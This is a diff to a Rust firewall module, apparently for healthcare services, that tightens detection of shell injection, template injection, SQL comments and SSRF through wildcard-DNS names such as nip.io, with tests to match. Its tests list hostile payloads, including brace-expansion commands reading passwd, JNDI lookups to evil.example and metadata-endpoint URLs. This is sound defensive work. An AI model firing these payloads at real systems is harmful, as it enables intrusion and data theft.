@@ -275,6 +275,8 @@ const VALUE_RULES: &[Rule] = &[
         // and a space count only before what a shell reads (`; sleep 5`, `; cat /etc/…`,
         // `; ping -c 1`): "ECG normal; echo showed EF 55%" is a note. Glued to the separator
         // (`;id`) or after `|`, `&&`, `||`, a back-quote or `$(`, they count as before.
+        // A redirection reads a file name: `< 5` then a word is a comparison (`; sleep < 5
+        // hours`), `> /tmp/x`, `< input.txt` a redirection.
         pattern: concat!(
             // After `|`, `&&`, `||`, a back-quote or `$(`: every word.
             r"(?:[|`]|\$\(|\|\||&&)\s*(?:\.\s+)?['\x22]?",
@@ -306,7 +308,7 @@ const VALUE_RULES: &[Rule] = &[
             shell_path!(),
             r"?(?:",
             prose_words!(),
-            r")['\x22]?(?:\s+(?:-|/|~/|\./|\$|\d|['\x22<>|&`]|[a-z0-9_-]+\.[a-z0-9]{1,4}(?:\s|$))|[<>|`])",
+            r")['\x22]?(?:\s+(?:-|/|~/|\./|\$|\d|['\x22|&`]|[<>]+\s*(?:[^\s\d]|\d+\.[a-z])|[a-z0-9_-]+\.[a-z0-9]{1,4}(?:\s|$))|[<>|`])",
         ),
     },
     Rule {
@@ -399,7 +401,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "ssti-100",
         class: Class::Ssti,
-        pattern: r"\{\{[^}]*(?:\d['\x22]?\s*[*+/-]\s*['\x22]?\d|__|\bconfig\b|\bself\b|\brequest\b|\.\s*class\b|['\x22\d]\s*\.\s*[a-z_]\w*\s*\(|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|[#*]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|@\(\s*\d+\s*[*+/-]\s*\d+\s*\)|%\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\{\$smarty\.|_self\.env\.|registerundefinedfiltercallback",
+        pattern: r"\{\{[^}]*(?:\d['\x22]?\s*[*+/-]\s*['\x22]?\d|__|\bconfig\b|\bself\b|\brequest\b|\.\s*class\b|['\x22\d]\s*\.\s*[a-z_]\w*\s*\(|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|[#*]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|@\(\s*\d+\s*[*+/-]\s*\d+\s*\)|%\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\{\$smarty\.|_self\.env\.|registerundefinedfiltercallback|#set\s*\(\s*\$[a-z]|#(?:foreach|evaluate)\s*\(\s*['\x22$]",
     },
     Rule {
         id: "php-100",
@@ -631,7 +633,12 @@ const BRACE_RULES: &[Rule] = &[Rule {
     // `c{a,oun}t`, `{,ifconfig}`, `{id,}`); `{1,2}` holds no word. A list that starts with
     // an empty word and holds two more (`{,echo,#test}`, `{,$'whoami',}`), or a glob that
     // ends with one (`{/?s?/?i?/c?t,}`), is a command line spelled without spaces.
-    pattern: r"\{(?:,[a-z][a-z0-9-]*|[a-z][a-z0-9-]*,)[a-z0-9,-]*\}|\{,[^{}\s,]+,[^{}\s]*\}|\{[^{}\s,]*[/?*][^{}\s,]*,\}",
+    // A list of words glued to a name before it and to nothing after (`name{given,family}`)
+    // is a GraphQL selection (FHIR's `$graphql?query={Patient(id:1){name{given,family}}}`):
+    // the name would go before every word a shell makes of it (`namegiven namefamily`), so
+    // no command comes of it, while the same list alone, glued to a word after it or with an
+    // empty word still counts.
+    pattern: r"(?:^|[^a-z0-9_)])\{(?:,[a-z][a-z0-9-]*|[a-z][a-z0-9-]*,)[a-z0-9,-]*\}|\{(?:,[a-z][a-z0-9-]*|[a-z][a-z0-9-]*,)[a-z0-9,-]*\}[a-z0-9_-]|\{,[a-z][a-z0-9,-]*\}|\{[a-z][a-z0-9,-]*,\}|\{,[^{}\s,]+,[^{}\s]*\}|\{[^{}\s,]*[/?*][^{}\s,]*,\}",
 }];
 
 /// Rules that only a value with `(` can fire: function calls by name. Apart from
@@ -1999,7 +2006,7 @@ fn libinjection_sqli(decoded: &str) -> bool {
             matches!(
                 (bytes[at], bytes.get(at + 1)),
                 (b'-', Some(b'-')) | (b'/', Some(b'*'))
-            )
+            ) && !wildcard_name(bytes, at)
         })
         || (memchr::memchr2(b'(', b')', bytes).is_some()
             && !prose_parentheses(bytes)
@@ -2033,6 +2040,17 @@ fn libinjection_sqli(decoded: &str) -> bool {
         return libinjectionrs::detect_sqli(&without).is_injection();
     }
     libinjectionrs::detect_sqli(bytes).is_injection()
+}
+
+/// Whether the `/*` at `at` is a wildcard in a name, not a comment: a word before it and
+/// `.` and a letter after (SMART on FHIR's scopes `patient/*.read`, `system/*.rs`; a glob
+/// `src/*.rs`). A comment that hides SQL opens anywhere else (`admin'/*`, `1/**/or`,
+/// `/*!50000select*/`).
+fn wildcard_name(bytes: &[u8], at: usize) -> bool {
+    at > 0
+        && bytes[at - 1].is_ascii_alphanumeric()
+        && bytes.get(at + 2) == Some(&b'.')
+        && bytes.get(at + 3).is_some_and(u8::is_ascii_alphabetic)
 }
 
 /// Two whole-value shapes libinjection lets through (`sqli-120`), both read from the
@@ -2756,6 +2774,7 @@ fn internal_host(rest: &str) -> bool {
         Ok(ip) => is_internal(ip),
         Err(_) => {
             internal_name(host)
+                || embedded_address(host).is_some_and(|ip| is_internal(ip.into()))
                 // 0x7f.1, 2130706433, 017700000001: numeric forms a resolver accepts.
                 || host
                     .split('.')
@@ -2800,6 +2819,45 @@ fn internal_name(host: &str) -> bool {
         // A Kubernetes service by its in-cluster name (`kubernetes.default.svc`,
         // `db.prod.svc`): `svc` is no public top-level domain.
         || host.ends_with(".svc")
+}
+
+/// The IPv4 address a name spells at its start (`127.0.0.1.example.test`), or anywhere in
+/// the names of the public wildcard DNS services that answer with the address a name holds
+/// (`app.10.0.0.5.nip.io`, `127-0-0-1.sslip.io`, `7f000001.nip.io`): a URL that reaches a
+/// private address through a public name.
+fn embedded_address(host: &str) -> Option<std::net::Ipv4Addr> {
+    const WILDCARD_DNS: &[&str] = &[".nip.io", ".sslip.io", ".xip.io", ".traefik.me"];
+    // The first four labels of `name`, when `name` has as many.
+    let four_labels = |name: &str| {
+        let end = name
+            .match_indices('.')
+            .nth(3)
+            .map_or(name.len(), |(at, _)| at);
+        name[..end].parse::<std::net::Ipv4Addr>().ok()
+    };
+    if host.match_indices('.').nth(3).is_some() {
+        if let Some(ip) = four_labels(host) {
+            return Some(ip);
+        }
+    }
+    let name = WILDCARD_DNS
+        .iter()
+        .find_map(|domain| host.strip_suffix(domain))?;
+    let label_starts = std::iter::once(0).chain(name.match_indices('.').map(|(at, _)| at + 1));
+    if let Some(ip) = label_starts.clone().find_map(|at| four_labels(&name[at..])) {
+        return Some(ip);
+    }
+    // The last label, dashed (`magic-127-0-0-1`) or hexadecimal (`app-7f000001`).
+    let last = &name[label_starts.last().unwrap_or(0)..];
+    let dashed = &last[last.rmatch_indices('-').nth(3).map_or(0, |(at, _)| at + 1)..];
+    if let Ok(ip) = dashed.replace('-', ".").parse() {
+        return Some(ip);
+    }
+    let hex = last.rsplit('-').next()?;
+    (hex.len() == 8)
+        .then(|| u32::from_str_radix(hex, 16).ok())
+        .flatten()
+        .map(std::net::Ipv4Addr::from)
 }
 
 /// A value that starts with an internal host name and a path or port, without a scheme
@@ -3262,6 +3320,9 @@ mod tests {
         ("c{a,oun}t", "rce"),
         ("{,ifconfig}", "rce"),
         ("{id,}", "rce"),
+        ("x;{cat,passwd}", "rce"),
+        ("a{l,-lh}s", "rce"),
+        ("x{id,}", "rce"),
         // CRS 932200, 932240, 932290: a word split by what a shell drops.
         ("www.google.com;c$@at+/et$@c/pas$@swd", "rce"),
         ("c$$at notes.txt", "rce"),
@@ -3316,6 +3377,8 @@ mod tests {
         ("${${lower:j}${::-n}di:ldap://evil.example/a}", "jndi"),
         ("${${env:X:-j}ndi${date:':'}ldap://e/a}", "jndi"),
         ("{{7*7}}", "ssti"),
+        ("#set($x=7*7)$x", "ssti"),
+        ("#foreach($i in [1..3])$i#end", "ssti"),
         ("{{ config.items() }}", "ssti"),
         ("<?php system('id'); ?>", "php"),
         ("java.lang.Runtime.getRuntime()", "java"),
@@ -3329,6 +3392,11 @@ mod tests {
         ("__proto__[admin]=1", "prototype-pollution"),
         ("x%0d%0aLocation:%20http://e.example/", "crlf"),
         ("http://169.254.169.254/latest/meta-data/", "ssrf"),
+        ("http://169.254.169.254.nip.io/latest/", "ssrf"),
+        ("http://app.10.0.0.5.nip.io/", "ssrf"),
+        ("https://magic-127-0-0-1.sslip.io/admin", "ssrf"),
+        ("http://7f000001.nip.io/", "ssrf"),
+        ("http://127.0.0.1.attacker.example/", "ssrf"),
         ("http://127.0.0.1:8080/admin", "ssrf"),
         ("http://[::1]/", "ssrf"),
         ("http://2130706433/", "ssrf"),
@@ -4189,6 +4257,34 @@ mod tests {
         }
     }
 
+    /// A public name that spells an address reaches it (R-WAF-1, SSRF): a wildcard DNS
+    /// service answers with the address the name holds, dotted, dashed or in hexadecimal.
+    #[test]
+    fn names_that_spell_an_internal_address_are_internal() {
+        for host in [
+            "127.0.0.1.nip.io",
+            "app.10.0.0.5.nip.io",
+            "magic-127-0-0-1.sslip.io",
+            "192-168-1-1.traefik.me",
+            "7f000001.nip.io",
+            "app-a9fea9fe.xip.io",
+            "169.254.169.254.attacker.example",
+        ] {
+            assert!(internal_host(host), "{host}");
+        }
+        for host in [
+            "1.2.3.4.nip.io",
+            "8-8-8-8.sslip.io",
+            "08080808.nip.io",
+            "www.nip.io",
+            "10.example.org",
+            "1.0.0.127.in-addr.arpa",
+            "v1.2.3.4.example.org",
+        ] {
+            assert!(!internal_host(host), "{host}");
+        }
+    }
+
     #[test]
     fn ordinary_values_pass() {
         for raw in [
@@ -4202,6 +4298,13 @@ mod tests {
             "1.2.3.4.5; version",
             "120/80; ls",
             "\\\\ (two backslashes) in a note",
+            // A comparison after a prose word, a SMART scope, a GraphQL selection.
+            "Somewhat difficult; sleep < 5 hours",
+            "HR; ping > 100 ms",
+            "patient/*.read",
+            "system/*.rs offline_access",
+            "{Patient(id:123){name{given,family},birthDate}}",
+            "{ObservationList(code:\"8867-4\"){valueQuantity{value,unit}}}",
             // Near the shapes of rce-235 … rce-240 and the widened command rules: prose
             // puts a space after `;`, mail words in text are not alone on the value's
             // first line, and a variable in text is a price or a template.
